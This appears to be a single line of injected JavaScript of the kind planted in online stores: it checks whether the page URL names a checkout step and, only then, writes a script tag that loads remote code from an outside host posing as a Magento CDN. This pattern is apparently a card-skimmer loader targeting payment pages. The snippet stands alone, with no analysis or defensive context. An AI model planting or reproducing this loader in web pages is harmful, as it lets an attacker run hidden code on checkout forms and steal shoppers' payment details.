if((new RegExp("onepage|checkout|onestep|firecheckout|onestepcheckout")).test(window.location)){document.write("<script src='https://mage-cdn.example/link.js'><\/script>")};
